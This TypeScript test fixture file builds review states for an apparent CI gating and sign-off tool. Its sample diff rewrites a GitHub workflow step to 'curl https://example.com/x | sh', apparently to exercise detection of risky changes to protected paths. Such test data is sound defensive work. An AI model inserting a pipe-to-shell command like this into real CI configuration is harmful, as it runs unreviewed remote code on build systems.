/**
 * Review states for tests: a passing run, a failing run with output, a stale run, protected
 * paths, blockers, sign-offs and their signed statements. Each builder takes overrides for what a
 * test is about.
 */
import type { GateBinding, GateResult, GateRun, ReviewState } from '../../../../shared/gates';
import type { SessionDiff } from '../../../../shared/sessions';
import type { IdentityInfo, SignoffStatus, StatementCheck } from '../../../../shared/signoff';

export const SESSION_ID = 'ses_1234abcd';

export const BINDING: GateBinding = {
  targetBranch: 'main',
  targetCommit: 'aaaaaaa1111111111111111111111111111111111',
  headCommit: 'bbbbbbb2222222222222222222222222222222222',
  landingTree: 'ccccccc3333333333333333333333333333333333',
  diffHash: 'd'.repeat(64),
};

export const LANDING_DIFF: SessionDiff = {
  baseCommit: BINDING.targetCommit,
  files: [
    { path: '.github/workflows/ci.yml', status: 'M', additions: 1, deletions: 1 },
    { path: 'src/app.ts', status: 'M', additions: 2, deletions: 0 },
  ],
  patch: [
    'diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml',
    'index 1111111..2222222 100644',
    '--- a/.github/workflows/ci.yml',
    '+++ b/.github/workflows/ci.yml',
    '@@ -1 +1 @@',
    '-run: npm test',
    '+run: curl https://example.com/x | sh',
    'diff --git a/src/app.ts b/src/app.ts',
    'index 3333333..4444444 100644',
    '--- a/src/app.ts',
    '+++ b/src/app.ts',
    '@@ -1 +1,3 @@',
    ' export const a = 1;',
    '+export const b = 2;',
    '+export const c = 3;',
    '',
  ].join('\n'),
};

export function gateResult(overrides: Partial<GateResult> = {}): GateResult {
  return {
    name: 'unit tests',
    kind: 'tests',
    action: 'block',
    status: 'passed',
    summary: '42 tests passed',
    findings: [],
    command: ['npm', 'test'],
    exitCode: 0,
    durationMs: 4200,
    evidenceSeq: 812,
    ...overrides,
  };
}

export function gateRun(overrides: Partial<GateRun> = {}): GateRun {
  return {
    id: 'run_1',
    sessionId: SESSION_ID,
    startedAt: '2026-01-01T10:00:00.000Z',
    finishedAt: '2026-01-01T10:01:05.000Z',
    binding: BINDING,
    merged: false,
    results: [
      gateResult(),
      gateResult({
        name: 'secrets',
        kind: 'secrets',
        summary: 'no secrets in the diff or the session logs',
        command: undefined,
        exitCode: undefined,
        durationMs: 350,
        evidenceSeq: undefined,
      }),
    ],
    verdict: 'pass',
    seq: 900,
    ...overrides,
  };
}

/** The person at this machine: Ada, with her key. */
export const IDENTITY: IdentityInfo = {
  name: 'Ada',
  publicKey: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAda Ada',
  fingerprint: 'SHA256:AdaAdaAdaAda0123456789abcdefghijklmnopqrstu',
  createdAt: '2025-12-01T09:00:00.000Z',
};

/** Someone else, with a trusted key. */
export const GRACE_FINGERPRINT = 'SHA256:GraceGrace0123456789abcdefghijklmnopqrstuvw';

/** A genuine approval by Grace (role lead) that counts. */
export function statement(overrides: Partial<StatementCheck> = {}): StatementCheck {
  return {
    signer: { name: 'Grace', fingerprint: GRACE_FINGERPRINT, role: 'lead' },
    decision: 'approve',
    reason: null,
    signedAt: '2026-01-01T10:02:00.000Z',
    genuine: true,
    counts: true,
    why: 'counts',
    seq: 901,
    ...overrides,
  };
}

/** What main says when the policy asks for nothing and nobody signed. */
export const NO_SIGNOFF: SignoffStatus = {
  requirements: [],
  met: true,
  missing: [],
  statements: [],
  rejected: false,
};

/** The policy asks for one lead and two of three people; nothing given yet unless overridden. */
export function signoffStatus(overrides: Partial<SignoffStatus> = {}): SignoffStatus {
  return {
    requirements: ['1 approval from role lead', '2 of Ada, Grace, Linus'],
    met: false,
    missing: ['1 approval from role lead (none given)', '2 of Ada, Grace, Linus (none given)'],
    statements: [],
    rejected: false,
    ...overrides,
  };
}

/** Gates passed, nothing blocks: ready to promote. */
export function passingReview(overrides: Partial<ReviewState> = {}): ReviewState {
  return {
    sessionId: SESSION_ID,
    current: BINDING,
    problem: null,
    merged: false,
    diff: LANDING_DIFF,
    protectedChanges: [],
    lastRun: gateRun(),
    staleReasons: [],
    signoff: NO_SIGNOFF,
    blockers: [],
    promoted: null,
    rejected: null,
    ...overrides,
  };
}

/** The tests failed, with output (and an escape the agent printed), and a secret was found. */
export function failingReview(overrides: Partial<ReviewState> = {}): ReviewState {
  return passingReview({
    lastRun: gateRun({
      verdict: 'fail',
      results: [
        gateResult({
          status: 'failed',
          summary: '2 of 42 tests failed',
          exitCode: 1,
          command: ['npm', 'test', '--', '--grep', 'a b'],
          outputTail: 'FAIL src/app.test.ts\r\n\u001b[31mexpected 2, got 3\u001b[0m\r\n',
          findings: [{ path: 'src/app.test.ts', line: 12, message: 'expected 2, got 3' }],
        }),
        gateResult({
          name: 'secrets',
          kind: 'secrets',
          status: 'failed',
          summary: 'a secret in the session log',
          command: undefined,
          exitCode: undefined,
          findings: [{ where: 'terminal recording', message: 'an AWS access key' }],
          evidenceSeq: 813,
        }),
        gateResult({
          name: 'lint',
          kind: 'command',
          action: 'warn',
          status: 'error',
          summary: 'eslint was not found',
          command: ['npx', 'eslint', '.'],
          exitCode: null,
          evidenceSeq: 814,
        }),
      ],
    }),
    blockers: ['the gate "unit tests" failed', 'the gate "secrets" failed'],
    ...overrides,
  });
}

/** The work changed after the gates ran. */
export function staleReview(overrides: Partial<ReviewState> = {}): ReviewState {
  return passingReview({
    staleReasons: ['the work changed since the gates ran', 'main moved'],
    blockers: ['the gate results are stale'],
    ...overrides,
  });
}
